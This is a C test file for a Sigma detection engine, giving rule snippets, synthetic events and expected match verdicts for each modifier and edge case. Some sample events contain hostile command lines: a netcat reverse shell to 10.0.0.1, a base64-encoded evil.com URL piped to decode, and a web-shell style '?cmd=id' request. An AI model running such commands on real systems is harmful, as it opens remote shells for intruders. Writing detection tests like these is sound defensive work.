/*
 * The Sigma engine on hand-built events: every modifier and value
 * form of the specification with its edge cases (escapes, windash
 * positions, base64offset's three shifts, the UTF-16 byte order mark,
 * IPv6 networks, null against '' against exists), rules that must be
 * refused or skipped with their reason, logsource routing, filters,
 * correlations, the event_view accessor, explain and the counters.
 * The case table gives a detection section, an event and the verdict.
 */

#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <jansson.h>

#include "event_wire.h"
#include "sigma.h"
#include "test.h"

#define T_MATCH		1
#define T_NOMATCH	0
#define T_INVALID	-1
#define T_SKIPPED	-2

/* 2024-03-05T03:17:00Z */
#define T_TS		1709608620000000LL

static const char test_map_text[] =
    "placeholders:\n"
    "    Admins: ['root', 'adm*']\n"
    "logsources:\n"
    "    - name: t\n"
    "      product: t\n"
    "      fields:\n"
    "          CommandLine: process_cmdline\n"
    "          Image: process_exe\n"
    "          User: user_id\n"
    "          Status: http_status\n"
    "          Ip: src_ip\n"
    "          Time: ts\n"
    "          Date: data.date\n"
    "          Num: data.num\n"
    "          Flag: data.flag\n"
    "          Empty: data.empty\n"
    "          Other: data.other\n"
    "          Nested: data.a.b\n"
    "          Uri: uri\n"
    "          Ext: path_ext\n"
    "    - name: sshd-only\n"
    "      service: sshd\n"
    "      when:\n"
    "          app: sshd\n";

struct tcase {
	const char	*name;
	const char	*det;		/* the detection section's body */
	const char	*ev;		/* col=value;...;data={json} */
	int		 want;
	const char	*reason;	/* substring of the reason */
};

static const struct tcase cases[] = {
	/* plain values */
	{ "equal-nocase", "s:\n  CommandLine: 'WhoAmI'\ncondition: s",
	    "process_cmdline=whoami", T_MATCH, NULL },
	{ "equal-bad-partial", "s:\n  CommandLine: 'whoami'\ncondition: s",
	    "process_cmdline=whoami /all", T_NOMATCH, NULL },
	{ "equal-bad-absent", "s:\n  CommandLine: 'whoami'\ncondition: s",
	    "user_id=root", T_NOMATCH, NULL },
	{ "cased", "s:\n  CommandLine|cased: 'WhoAmI'\ncondition: s",
	    "process_cmdline=WhoAmI", T_MATCH, NULL },
	{ "cased-bad", "s:\n  CommandLine|cased: 'WhoAmI'\ncondition: s",
	    "process_cmdline=whoami", T_NOMATCH, NULL },
	{ "list-or", "s:\n  User:\n    - alice\n    - bob\ncondition: s",
	    "user_id=Bob", T_MATCH, NULL },
	{ "list-or-bad", "s:\n  User:\n    - alice\n    - bob\ncondition: s",
	    "user_id=carol", T_NOMATCH, NULL },
	{ "map-and", "s:\n  User: root\n  Image: '/bin/sh'\ncondition: s",
	    "user_id=root;process_exe=/bin/sh", T_MATCH, NULL },
	{ "map-and-bad", "s:\n  User: root\n  Image: '/bin/sh'\n"
	    "condition: s", "user_id=root;process_exe=/bin/bash", T_NOMATCH,
	    NULL },
	{ "list-of-maps", "s:\n  - User: root\n  - Image: '/bin/sh'\n"
	    "condition: s", "user_id=bob;process_exe=/bin/sh", T_MATCH, NULL },
	{ "list-of-maps-bad", "s:\n  - User: root\n  - Image: '/bin/sh'\n"
	    "condition: s", "user_id=bob;process_exe=/bin/ls", T_NOMATCH,
	    NULL },
	{ "integer", "s:\n  Status: 404\ncondition: s", "http_status=404",
	    T_MATCH, NULL },
	{ "integer-bad", "s:\n  Status: 404\ncondition: s",
	    "http_status=4040", T_NOMATCH, NULL },
	{ "integer-in-data", "s:\n  Num: 7\ncondition: s", "data={\"num\":7}",
	    T_MATCH, NULL },
	{ "boolean", "s:\n  Flag: true\ncondition: s",
	    "data={\"flag\":true}", T_MATCH, NULL },
	{ "boolean-string", "s:\n  Flag: true\ncondition: s",
	    "data={\"flag\":\"TRUE\"}", T_MATCH, NULL },
	{ "boolean-bad", "s:\n  Flag: true\ncondition: s",
	    "data={\"flag\":false}", T_NOMATCH, NULL },
	{ "nested-data", "s:\n  Nested: x\ncondition: s",
	    "data={\"a\":{\"b\":\"X\"}}", T_MATCH, NULL },

	/* wildcards and escapes */
	{ "star", "s:\n  CommandLine: 'who*'\ncondition: s",
	    "process_cmdline=whoami", T_MATCH, NULL },
	{ "star-middle", "s:\n  CommandLine: 'w*i'\ncondition: s",
	    "process_cmdline=whoami", T_MATCH, NULL },
	{ "star-middle-bad", "s:\n  CommandLine: 'w*x'\ncondition: s",
	    "process_cmdline=whoami", T_NOMATCH, NULL },
	{ "qmark", "s:\n  CommandLine: 'wh?ami'\ncondition: s",
	    "process_cmdline=whoami", T_MATCH, NULL },
	{ "qmark-needs-one", "s:\n  CommandLine: 'whoami?'\ncondition: s",
	    "process_cmdline=whoami", T_NOMATCH, NULL },
	{ "qmark-utf8", "s:\n  CommandLine: 'caf?'\ncondition: s",
	    "process_cmdline=caf\xc3\xa9", T_MATCH, NULL },
	{ "glob-backtrack", "s:\n  CommandLine: '*a?c*x'\ncondition: s",
	    "process_cmdline=aaabcaabcx", T_MATCH, NULL },
	{ "escaped-star", "s:\n  CommandLine: 'a\\*b'\ncondition: s",
	    "process_cmdline=a*b", T_MATCH, NULL },
	{ "escaped-star-bad", "s:\n  CommandLine: 'a\\*b'\ncondition: s",
	    "process_cmdline=axb", T_NOMATCH, NULL },
	{ "escaped-qmark", "s:\n  CommandLine: 'why\\?'\ncondition: s",
	    "process_cmdline=why?", T_MATCH, NULL },
	{ "escaped-qmark-bad", "s:\n  CommandLine: 'why\\?'\ncondition: s",
	    "process_cmdline=whyx", T_NOMATCH, NULL },
	{ "backslash-single", "s:\n  Image: 'C:\\Windows\\cmd.exe'\n"
	    "condition: s", "process_exe=c:\\windows\\CMD.exe", T_MATCH, NULL },
	{ "backslash-double", "s:\n  Image: 'C:\\\\Windows'\ncondition: s",
	    "process_exe=C:\\Windows", T_MATCH, NULL },
	{ "backslash-then-wildcard", "s:\n  Image: 'dir\\\\*'\n"
	    "condition: s", "process_exe=dir\\anything", T_MATCH, NULL },
	{ "three-backslashes-star", "s:\n  Image: 'dir\\\\\\*'\n"
	    "condition: s", "process_exe=dir\\*", T_MATCH, NULL },
	{ "three-backslashes-star-bad", "s:\n  Image: 'dir\\\\\\*'\n"
	    "condition: s", "process_exe=dir\\x", T_NOMATCH, NULL },
	{ "four-backslashes", "s:\n  Image: 'a\\\\\\\\b'\ncondition: s",
	    "process_exe=a\\\\b", T_MATCH, NULL },
	{ "four-backslashes-bad", "s:\n  Image: 'a\\\\\\\\b'\n"
	    "condition: s", "process_exe=a\\b", T_NOMATCH, NULL },

	/* contains, startswith, endswith, all */
	{ "contains", "s:\n  CommandLine|contains: 'AMI'\ncondition: s",
	    "process_cmdline=whoami /all", T_MATCH, NULL },
	{ "contains-bad", "s:\n  CommandLine|contains: 'xyz'\n"
	    "condition: s", "process_cmdline=whoami", T_NOMATCH, NULL },
	{ "startswith", "s:\n  CommandLine|startswith: 'who'\n"
	    "condition: s", "process_cmdline=whoami", T_MATCH, NULL },
	{ "startswith-bad", "s:\n  CommandLine|startswith: 'ami'\n"
	    "condition: s", "process_cmdline=whoami", T_NOMATCH, NULL },
	{ "endswith", "s:\n  Image|endswith: '/sh'\ncondition: s",
	    "process_exe=/bin/SH", T_MATCH, NULL },
	{ "endswith-bad", "s:\n  Image|endswith: '/sh'\ncondition: s",
	    "process_exe=/bin/bash", T_NOMATCH, NULL },
	{ "contains-all", "s:\n  CommandLine|contains|all:\n    - ' -e '\n"
	    "    - '/bin/sh'\ncondition: s",
	    "process_cmdline=nc -e /bin/sh 10.0.0.1", T_MATCH, NULL },
	{ "contains-all-bad", "s:\n  CommandLine|contains|all:\n"
	    "    - ' -e '\n    - '/bin/sh'\ncondition: s",
	    "process_cmdline=nc -e /bin/bash", T_NOMATCH, NULL },
	{ "bad-all-single", "s:\n  CommandLine|contains|all: 'x'\n"
	    "condition: s", "", T_INVALID, "all needs a list" },
	{ "bad-two-positions", "s:\n  CommandLine|contains|startswith: 'x'\n"
	    "condition: s", "", T_INVALID, "exclude each other" },

	/* null, '', exists */
	{ "null-absent", "s:\n  Other: null\ncondition: s", "user_id=x",
	    T_MATCH, NULL },
	{ "null-empty", "s:\n  Other: null\ncondition: s",
	    "data={\"other\":\"\"}", T_MATCH, NULL },
	{ "null-bad-value", "s:\n  Other: null\ncondition: s",
	    "data={\"other\":\"x\"}", T_NOMATCH, NULL },
	{ "empty-string", "s:\n  Empty: ''\ncondition: s",
	    "data={\"empty\":\"\"}", T_MATCH, NULL },
	{ "empty-string-bad-absent", "s:\n  Empty: ''\ncondition: s",
	    "user_id=x", T_NOMATCH, NULL },
	{ "empty-string-bad-value", "s:\n  Empty: ''\ncondition: s",
	    "data={\"empty\":\"x\"}", T_NOMATCH, NULL },
	{ "exists-true", "s:\n  Empty|exists: true\ncondition: s",
	    "data={\"empty\":\"\"}", T_MATCH, NULL },
	{ "exists-true-bad", "s:\n  Empty|exists: true\ncondition: s",
	    "user_id=x", T_NOMATCH, NULL },
	{ "exists-false", "s:\n  Empty|exists: false\ncondition: s",
	    "user_id=x", T_MATCH, NULL },
	{ "exists-false-bad", "s:\n  Empty|exists: false\ncondition: s",
	    "data={\"empty\":null}", T_NOMATCH, NULL },
	{ "bad-exists-value", "s:\n  Empty|exists: 'yes'\ncondition: s", "",
	    T_INVALID, "exists takes true or false" },
	{ "bad-exists-contains", "s:\n  Empty|exists|contains: true\n"
	    "condition: s", "", T_INVALID, NULL },
	{ "bad-null-in-list", "s:\n  Other:\n    - ''\n    - null\n"
	    "condition: s", "", T_INVALID, "null cannot be part of a list" },

	/* neq */
	{ "neq", "s:\n  User|neq: root\ncondition: s", "user_id=bob",
	    T_MATCH, NULL },
	{ "neq-bad", "s:\n  User|neq: root\ncondition: s", "user_id=ROOT",
	    T_NOMATCH, NULL },
	{ "neq-list", "s:\n  User|neq:\n    - root\n    - bob\n"
	    "condition: s", "user_id=bob", T_NOMATCH, NULL },
	{ "neq-number", "s:\n  Status|neq: 200\ncondition: s",
	    "http_status=404", T_MATCH, NULL },

	/* numeric */
	{ "gt", "s:\n  Status|gt: 399\ncondition: s", "http_status=404",
	    T_MATCH, NULL },
	{ "gt-bad", "s:\n  Status|gt: 404\ncondition: s", "http_status=404",
	    T_NOMATCH, NULL },
	{ "gte", "s:\n  Status|gte: 404\ncondition: s", "http_status=404",
	    T_MATCH, NULL },
	{ "lt", "s:\n  Num|lt: 10\ncondition: s", "data={\"num\":9.5}",
	    T_MATCH, NULL },
	{ "lt-bad-text", "s:\n  Num|lt: 10\ncondition: s",
	    "data={\"num\":\"nine\"}", T_NOMATCH, NULL },
	{ "lte", "s:\n  Num|lte: -1\ncondition: s", "data={\"num\":-1}",
	    T_MATCH, NULL },
	{ "bad-lt-text", "s:\n  Num|lt: ten\ncondition: s", "", T_INVALID,
	    "not a number" },
	{ "bad-lt-gt", "s:\n  Num|lt|gt: 1\ncondition: s", "", T_INVALID,
	    "do not go together" },

	/* time parts */
	{ "hour-ts", "s:\n  Time|hour: 3\ncondition: s", "ts", T_MATCH,
	    NULL },
	{ "hour-ts-bad", "s:\n  Time|hour: 4\ncondition: s", "ts",
	    T_NOMATCH, NULL },
	{ "minute-ts", "s:\n  Time|minute: 17\ncondition: s", "ts", T_MATCH,
	    NULL },
	{ "hour-lt", "s:\n  Time|hour|lt: 6\ncondition: s", "ts", T_MATCH,
	    NULL },
	{ "hour-gte-bad", "s:\n  Time|hour|gte: 22\ncondition: s", "ts",
	    T_NOMATCH, NULL },
	{ "month-iso", "s:\n  Date|month: 12\ncondition: s",
	    "data={\"date\":\"2024-12-25T10:00:00Z\"}", T_MATCH, NULL },
	{ "day-iso", "s:\n  Date|day: 25\ncondition: s",
	    "data={\"date\":\"2024-12-25 10:00:00\"}", T_MATCH, NULL },
	{ "week-iso", "s:\n  Date|week: 52\ncondition: s",
	    "data={\"date\":\"2024-12-25\"}", T_MATCH, NULL },
	{ "week-next-year", "s:\n  Date|week: 1\ncondition: s",
	    "data={\"date\":\"2024-12-30\"}", T_MATCH, NULL },
	{ "week-53", "s:\n  Date|week: 53\ncondition: s",
	    "data={\"date\":\"2021-01-03\"}", T_MATCH, NULL },
	{ "year-epoch", "s:\n  Date|year: 2024\ncondition: s",
	    "data={\"date\":1735599900}", T_MATCH, NULL },
	{ "year-bad", "s:\n  Date|year: 2023\ncondition: s",
	    "data={\"date\":\"2024-01-01\"}", T_NOMATCH, NULL },
	{ "time-bad-date", "s:\n  Date|year: 2024\ncondition: s",
	    "data={\"date\":\"yesterday\"}", T_NOMATCH, NULL },

	/* regular expressions */
	{ "re", "s:\n  CommandLine|re: '^who.*i$'\ncondition: s",
	    "process_cmdline=whoami", T_MATCH, NULL },
	{ "re-cased", "s:\n  CommandLine|re: '^WHO'\ncondition: s",
	    "process_cmdline=whoami", T_NOMATCH, NULL },
	{ "re-i", "s:\n  CommandLine|re|i: '^WHO'\ncondition: s",
	    "process_cmdline=whoami", T_MATCH, NULL },
	{ "re-m", "s:\n  CommandLine|re|m: '^b$'\ncondition: s",
	    "process_cmdline=a\nb", T_MATCH, NULL },
	{ "re-no-m", "s:\n  CommandLine|re: '^b$'\ncondition: s",
	    "process_cmdline=a\nb", T_NOMATCH, NULL },
	{ "re-s", "s:\n  CommandLine|re|s: 'a.b'\ncondition: s",
	    "process_cmdline=a\nb", T_MATCH, NULL },
	{ "re-no-s", "s:\n  CommandLine|re: 'a.b'\ncondition: s",
	    "process_cmdline=a\nb", T_NOMATCH, NULL },
	{ "bad-re", "s:\n  CommandLine|re: 'a(b'\ncondition: s", "",
	    T_INVALID, "regular expression" },
	{ "bad-i-without-re", "s:\n  CommandLine|i: 'a'\ncondition: s", "",
	    T_INVALID, "need the re modifier" },
	{ "bad-re-contains", "s:\n  CommandLine|re|contains: 'a'\n"
	    "condition: s", "", T_INVALID, "do not go together" },

	/* encodings */
	{ "base64", "s:\n  CommandLine|base64: 'http'\ncondition: s",
	    "process_cmdline=aHR0cA==", T_MATCH, NULL },
	{ "base64-cased", "s:\n  CommandLine|base64: 'http'\ncondition: s",
	    "process_cmdline=AHR0CA==", T_NOMATCH, NULL },
	{ "base64offset-0", "s:\n  CommandLine|base64offset|contains: "
	    "'http'\ncondition: s",
	    "process_cmdline=echo aHR0cDovL2V2aWwuY29t | base64 -d", T_MATCH,
	    NULL },
	{ "base64offset-1", "s:\n  CommandLine|base64offset|contains: "
	    "'http'\ncondition: s", "process_cmdline=eGh0dHA=", T_MATCH,
	    NULL },
	{ "base64offset-2", "s:\n  CommandLine|base64offset|contains: "
	    "'http'\ncondition: s", "process_cmdline=eHlodHRw", T_MATCH,
	    NULL },
	{ "base64offset-bad", "s:\n  CommandLine|base64offset|contains: "
	    "'http'\ncondition: s", "process_cmdline=aHR0 h0d odH",
	    T_NOMATCH, NULL },
	/* an empty value has no buffer to shift (found by fuzz-sigma-rule) */
	{ "base64offset-empty", "s:\n  CommandLine|base64offset|contains: "
	    "''\ncondition: s", "process_cmdline=aHR0cA==", T_MATCH, NULL },
	{ "bad-base64-wildcard", "s:\n  CommandLine|contains|base64: 'x'\n"
	    "condition: s", "", T_INVALID, "with wildcards" },
	{ "utf16le-base64offset-0", "s:\n  CommandLine|utf16le|base64offset"
	    "|contains: 'cmd /c'\ncondition: s",
	    "process_cmdline=powershell -enc YwBtAGQAIAAvAGMAZQA=", T_MATCH,
	    NULL },
	{ "wide-base64offset-1", "s:\n  CommandLine|wide|base64offset"
	    "|contains: 'cmd /c'\ncondition: s",
	    "process_cmdline=-e IGMAbQBkACAALwBjAA==", T_MATCH, NULL },
	{ "utf16le-base64offset-2", "s:\n  CommandLine|utf16le|base64offset"
	    "|contains: 'cmd /c'\ncondition: s",
	    "process_cmdline=-e ICBjAG0AZAAgAC8AYwA=", T_MATCH, NULL },
	{ "utf16-bom", "s:\n  CommandLine|utf16|base64: 'cmd'\n"
	    "condition: s", "process_cmdline=//5jAG0AZAA=", T_MATCH, NULL },
	{ "utf16be", "s:\n  CommandLine|utf16be|base64: 'cmd'\n"
	    "condition: s", "process_cmdline=AGMAbQBk", T_MATCH, NULL },
	{ "wide", "s:\n  CommandLine|wide|base64: 'cmd'\ncondition: s",
	    "process_cmdline=YwBtAGQA", T_MATCH, NULL },
	{ "utf16le-bad-bom", "s:\n  CommandLine|utf16le|base64: 'cmd'\n"
	    "condition: s", "process_cmdline=//5jAG0AZAA=", T_NOMATCH, NULL },

	/* windash */
	{ "windash-dash", "s:\n  CommandLine|windash|contains: ' -p '\n"
	    "condition: s", "process_cmdline=tool -p x", T_MATCH, NULL },
	{ "windash-slash", "s:\n  CommandLine|windash|contains: ' -p '\n"
	    "condition: s", "process_cmdline=tool /p x", T_MATCH, NULL },
	{ "windash-en", "s:\n  CommandLine|windash|contains: ' -p '\n"
	    "condition: s", "process_cmdline=tool \xe2\x80\x93p x", T_MATCH,
	    NULL },
	{ "windash-em", "s:\n  CommandLine|windash|contains: ' -p '\n"
	    "condition: s", "process_cmdline=tool \xe2\x80\x94p x", T_MATCH,
	    NULL },
	{ "windash-bar", "s:\n  CommandLine|windash|contains: ' /p '\n"
	    "condition: s", "process_cmdline=tool \xe2\x80\x95p x", T_MATCH,
	    NULL },
	{ "windash-bad", "s:\n  CommandLine|windash|contains: ' -p '\n"
	    "condition: s", "process_cmdline=tool +p x", T_NOMATCH, NULL },
	{ "windash-two-positions", "s:\n  CommandLine|windash: '-a -b'\n"
	    "condition: s", "process_cmdline=/a \xe2\x80\x93" "b", T_MATCH,
	    NULL },
	{ "windash-inside-word", "s:\n  CommandLine|windash: 'a-b'\n"
	    "condition: s", "process_cmdline=a/b", T_NOMATCH, NULL },
	{ "windash-inside-word-same", "s:\n  CommandLine|windash: 'a-b'\n"
	    "condition: s", "process_cmdline=a-b", T_MATCH, NULL },
	{ "windash-not-before-space", "s:\n  CommandLine|windash: 'x - y'\n"
	    "condition: s", "process_cmdline=x / y", T_NOMATCH, NULL },

	/* cidr */
	{ "cidr4", "s:\n  Ip|cidr: 10.0.0.0/8\ncondition: s",
	    "src_ip=10.1.2.3", T_MATCH, NULL },
	{ "cidr4-bad", "s:\n  Ip|cidr: 10.0.0.0/8\ncondition: s",
	    "src_ip=11.0.0.1", T_NOMATCH, NULL },
	{ "cidr4-odd-prefix", "s:\n  Ip|cidr: 192.168.0.0/23\n"
	    "condition: s", "src_ip=192.168.1.200", T_MATCH, NULL },
	{ "cidr4-odd-prefix-bad", "s:\n  Ip|cidr: 192.168.0.0/23\n"
	    "condition: s", "src_ip=192.168.2.1", T_NOMATCH, NULL },
	{ "cidr6", "s:\n  Ip|cidr: '2001:db8::/32'\ncondition: s",
	    "src_ip=2001:db8:1::5", T_MATCH, NULL },
	{ "cidr6-bad", "s:\n  Ip|cidr: '2001:db8::/32'\ncondition: s",
	    "src_ip=2001:db9::1", T_NOMATCH, NULL },
	{ "cidr6-v4-address", "s:\n  Ip|cidr: '::/0'\ncondition: s",
	    "src_ip=10.0.0.1", T_NOMATCH, NULL },
	{ "cidr-list", "s:\n  Ip|cidr:\n    - 10.0.0.0/8\n    - 'fe80::/10'\n"
	    "condition: s", "src_ip=fe80::1", T_MATCH, NULL },
	{ "bad-cidr", "s:\n  Ip|cidr: 10.0.0.0/33\ncondition: s", "",
	    T_INVALID, "not a network" },

	/* expand, fieldref */
	{ "expand", "s:\n  User|expand: '%Admins%'\ncondition: s",
	    "user_id=root", T_MATCH, NULL },
	{ "expand-wildcard-value", "s:\n  User|expand: '%Admins%'\n"
	    "condition: s", "user_id=admin7", T_MATCH, NULL },
	{ "expand-bad", "s:\n  User|expand: '%Admins%'\ncondition: s",
	    "user_id=bob", T_NOMATCH, NULL },
	{ "expand-escape", "s:\n  User|expand: '\\%x%Admins%'\n"
	    "condition: s", "user_id=%xroot", T_MATCH, NULL },
	{ "no-expand-literal", "s:\n  User: '%Admins%'\ncondition: s",
	    "user_id=%admins%", T_MATCH, NULL },
	{ "expand-unknown", "s:\n  User|expand: '%Nobody%'\ncondition: s",
	    "", T_SKIPPED, "unknown placeholder %Nobody%" },
	{ "fieldref", "s:\n  User|fieldref: Other\ncondition: s",
	    "user_id=Bob;data={\"other\":\"bob\"}", T_MATCH, NULL },
	{ "fieldref-bad", "s:\n  User|fieldref: Other\ncondition: s",
	    "user_id=bob;data={\"other\":\"alice\"}", T_NOMATCH, NULL },
	{ "fieldref-neq", "s:\n  User|fieldref|neq: Other\ncondition: s",
	    "user_id=bob;data={\"other\":\"alice\"}", T_MATCH, NULL },
	{ "fieldref-unmapped", "s:\n  User|fieldref: Nope\ncondition: s",
	    "", T_SKIPPED, "field Nope not mapped" },

	/* keywords */
	{ "keywords", "k:\n  - 'error in libcrypto'\n  - 'other'\n"
	    "condition: k", "message=sshd: ERROR in libcrypto here",
	    T_MATCH, NULL },
	{ "keywords-raw", "k:\n  - 'needle'\ncondition: k",
	    "message=nothing;raw=<13>x needle", T_MATCH, NULL },
	{ "keywords-bad", "k:\n  - 'needle'\ncondition: k",
	    "message=haystack;raw=haystack", T_NOMATCH, NULL },
	{ "keywords-wildcard", "k:\n  - 'Trojan*FOUND'\ncondition: k",
	    "message=/tmp/x: Unix.Trojan.Mirai FOUND", T_MATCH, NULL },
	{ "keywords-all", "k:\n  '|all':\n    - 'pkexec'\n    - 'XAUTHORITY'\n"
	    "condition: k", "message=pkexec: bad XAUTHORITY", T_MATCH, NULL },
	{ "keywords-all-bad", "k:\n  '|all':\n    - 'pkexec'\n"
	    "    - 'XAUTHORITY'\ncondition: k", "message=pkexec: fine",
	    T_NOMATCH, NULL },
	{ "keyword-scalar", "k: '(2 users now present)'\ncondition: k",
	    "message=guacd: (2 users now present)", T_MATCH, NULL },

	/* http computed fields */
	{ "uri", "s:\n  Uri|contains: '.php?cmd='\ncondition: s",
	    "http_path=/x.php;http_query=cmd=id", T_MATCH, NULL },
	{ "uri-bad", "s:\n  Uri|contains: '.php?cmd='\ncondition: s",
	    "http_path=/x.php", T_NOMATCH, NULL },
	{ "path-ext", "s:\n  Ext: 'jsp'\ncondition: s",
	    "http_path=/a.b/shell.JSP", T_MATCH, NULL },
	{ "path-ext-bad", "s:\n  Ext: 'jsp'\ncondition: s",
	    "http_path=/a.jsp/shell", T_NOMATCH, NULL },

	/* conditions */
	{ "cond-not", "s:\n  User: root\nf:\n  Image: '/bin/ls'\n"
	    "condition: s and not f", "user_id=root;process_exe=/bin/ls",
	    T_NOMATCH, NULL },
	{ "cond-list", "a:\n  User: root\nb:\n  User: bob\ncondition:\n"
	    "  - a\n  - b", "user_id=bob", T_MATCH, NULL },
	{ "cond-them-underscore", "a:\n  User: root\n_b:\n  User: bob\n"
	    "condition: 1 of them", "user_id=bob", T_NOMATCH, NULL },
	{ "cond-all-of", "sel_a:\n  User: root\nsel_b:\n  Image: '*sh'\n"
	    "condition: all of sel_*", "user_id=root;process_exe=/bin/sh",
	    T_MATCH, NULL },
	{ "bad-cond-v1", "a:\n  User: root\ncondition: a | count() > 5", "",
	    T_INVALID, "v1 aggregation (count/near) is not supported; use a "
	    "correlation rule" },
	{ "bad-cond-unknown", "a:\n  User: root\ncondition: b", "",
	    T_INVALID, "unknown search identifier 'b'" },
	{ "bad-cond-missing", "a:\n  User: root\n", "", T_INVALID,
	    "condition missing" },

	/* structure */
	{ "bad-unknown-modifier", "s:\n  User|sorta: x\ncondition: s", "",
	    T_INVALID, "unknown modifier 'sorta'" },
	{ "bad-value-map", "s:\n  User:\n    a: b\ncondition: s", "",
	    T_INVALID, "cannot be a map" },
	{ "bad-empty-search", "s: []\ncondition: s", "", T_INVALID,
	    "is empty" },
	{ "bad-empty-list", "s:\n  User: []\ncondition: s", "", T_INVALID,
	    "empty list" },
	{ "bad-duplicate-field", "s:\n  User: a\n  User: b\ncondition: s",
	    "", T_INVALID, "given twice" },
	{ "bad-duplicate-modifier", "s:\n  User|cased|cased: a\n"
	    "condition: s", "", T_INVALID, "given twice" },
	{ "unmapped-field", "s:\n  TargetFilename: x\ncondition: s", "",
	    T_SKIPPED, "field TargetFilename not mapped for product=t" },
};

static struct sigma_map	*tmap;

static void	 build_event(struct siem_event *, const char *);
static struct sigma_set *one_rule(const struct sigma_map *, const char *,
		    struct sigma_rule **);
static int	 run_case(const struct tcase *);
static void	 test_cases(void);
static void	 test_meta(void);
static void	 test_bad_yaml(void);
static void	 test_routing(void);
static void	 test_view(void);
static void	 test_explain_stats(void);
static void	 test_filters(void);
static void	 test_correlations(void);
static void	 test_mapping_file(void);
static void	 test_default_map(void);

/* "col=value;col=value;data={...}" (data last: it may hold ';'). */
static void
build_event(struct siem_event *ev, const char *spec)
{
	char		*copy, *p, *next, *eq;
	json_error_t	 jerr;
	int		 i;

	event_init(ev);
	copy = strdup(spec);
	for (p = copy; p != NULL && *p != '\0'; p = next) {
		if (strncmp(p, "data=", 5) == 0) {
			json_decref(ev->data);
			ev->data = json_loads(p + 5, 0, &jerr);
			break;
		}
		if ((next = strchr(p, ';')) != NULL)
			*next++ = '\0';
		if (strcmp(p, "ts") == 0) {
			ev->ts = T_TS;
			continue;
		}
		if ((eq = strchr(p, '=')) == NULL)
			continue;
		*eq++ = '\0';
		for (i = 0; i < EV_TEXT_MAX; i++)
			if (strcmp(p, event_text_name(i)) == 0)
				event_set(ev, i, eq, strlen(eq));
		for (i = 0; i < EV_INT_MAX; i++)
			if (strcmp(p, event_int_name(i)) == 0)
				ev->ints[i] = strtoll(eq, NULL, 10);
	}
	free(copy);
}

static struct sigma_set *
one_rule(const struct sigma_map *map, const char *yaml,
    struct sigma_rule **r)
{
	struct sigma_set	*set;

	set = sigma_set_new(map);
	sigma_set_add_file(set, "test.yml", yaml, strlen(yaml));
	sigma_set_compile(set);
	*r = sigma_set_rule(set, 0);
	return (set);
}

/* Indent the detection body under "detection:". */
static char *
rule_text(const char *logsource, const char *det)
{
	char		*out;
	const char	*p;
	size_t		 o = 0, len = strlen(det) * 2 + strlen(logsource) + 256;

	if ((out = malloc(len)) == NULL)
		exit(1);
	o = snprintf(out, len, "title: case\nid: 11111111-2222-3333-4444-"
	    "555555555555\nlevel: high\nauthor: tester\n"
	    "logsource:\n%sdetection:\n    ", logsource);
	for (p = det; *p != '\0'; p++) {
		out[o++] = *p;
		if (*p == '\n' && p[1] != '\0') {
			memcpy(out + o, "    ", 4);
			o += 4;
		}
	}
	out[o++] = '\n';
	out[o] = '\0';
	return (out);
}

static int
run_case(const struct tcase *c)
{
	struct sigma_set	*set;
	struct sigma_rule	*r;
	struct siem_event	 ev;
	struct sigma_event	 se;
	char			*yaml;
	int			 got;

	yaml = rule_text("    product: t\n", c->det);
	set = one_rule(tmap, yaml, &r);
	free(yaml);
	if (r->state == SIGMA_INVALID)
		got = T_INVALID;
	else if (r->state == SIGMA_SKIPPED)
		got = T_SKIPPED;
	else {
		build_event(&ev, c->ev);
		sigma_event_from_event(&se, &ev);
		got = sigma_match(set, &se, NULL, NULL) > 0;
		/* the same verdict without the logsource index */
		if (sigma_rule_match(r, &se) != got)
			got = 99;
		sigma_event_done(&se);
		event_clear(&ev);
	}
	if (got != c->want)
		printf("# %s: got %d, want %d (%s)\n", c->name, got, c->want,
		    r->reason);
	if (c->reason != NULL && strstr(r->reason, c->reason) == NULL) {
		printf("# %s: reason \"%s\", want \"%s\"\n", c->name,
		    r->reason, c->reason);
		got = 98;
	}
	sigma_set_free(set);
	return (got == c->want);
}

static void
test_cases(void)
{
	char	 name[128];
	size_t	 i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		snprintf(name, sizeof(name), "%s%s", strncmp(cases[i].name,
		    "bad-", 4) == 0 ? "" : "case-", cases[i].name);
		TEST_BEGIN(name);
		CHECK(run_case(&cases[i]));
		TEST_END();
	}
}

static void
test_meta(void)
{
	static const char	 yaml[] =
	    "title: Meta\nid: abc\nstatus: test\nlevel: critical\n"
	    "author: Someone, Other\ndescription: Why\n"
	    "tags:\n    - attack.t1059\n    - attack.execution\n"
	    "references: https://example.org\n"
	    "falsepositives:\n    - admins\n"
	    "logsource:\n    product: linux\n    category: process_creation\n"
	    "detection:\n    s:\n        Image|endswith: /sh\n"
	    "    condition: s\n";
	struct sigma_set	*set;
	struct sigma_rule	*r;

	TEST_BEGIN("rule-metadata");
	set = one_rule(tmap, yaml, &r);
	/* the test map has no linux entry: metadata still kept */
	CHECK_INT(r->state, SIGMA_SKIPPED);
	CHECK_STR(r->reason, "logsource product=linux "
	    "category=process_creation not mapped");
	CHECK_STR(r->title, "Meta");
	CHECK_STR(r->id, "abc");
	CHECK_STR(r->status, "test");
	CHECK_STR(r->level, "critical");
	CHECK_STR(r->author, "Someone, Other");
	CHECK_STR(r->description, "Why");
	CHECK_INT(r->ntags, 2);
	CHECK_STR(r->tags[1], "attack.execution");
	CHECK_INT(r->nreferences, 1);
	CHECK_INT(r->nfalsepositives, 1);
	CHECK_STR(r->product, "linux");
	CHECK_STR(r->category, "process_creation");
	sigma_set_free(set);
	TEST_END();

	TEST_BEGIN("bad-meta");
	set = one_rule(tmap, "id: x\nlogsource:\n    product: t\n"
	    "detection:\n    k: [a]\n    condition: k\n", &r);
	CHECK_INT(r->state, SIGMA_INVALID);
	CHECK_STR(r->reason, "title missing");
	sigma_set_free(set);
	set = one_rule(tmap, "title: x\nlevel: severe\nlogsource:\n"
	    "    product: t\ndetection:\n    k: [a]\n    condition: k\n", &r);
	CHECK_INT(r->state, SIGMA_INVALID);
	CHECK(strstr(r->reason, "level") != NULL);
	sigma_set_free(set);
	set = one_rule(tmap, "title: x\nlogsource:\n    product: t\n", &r);
	CHECK_INT(r->state, SIGMA_INVALID);
	CHECK(strstr(r->reason, "detection") != NULL);
	sigma_set_free(set);
	set = one_rule(tmap, "title: x\ndetection:\n    k: [a]\n"
	    "    condition: k\n", &r);
	CHECK_STR(r->reason, "logsource missing");
	sigma_set_free(set);
	set = one_rule(tmap, "title: x\naction: global\nlogsource:\n"
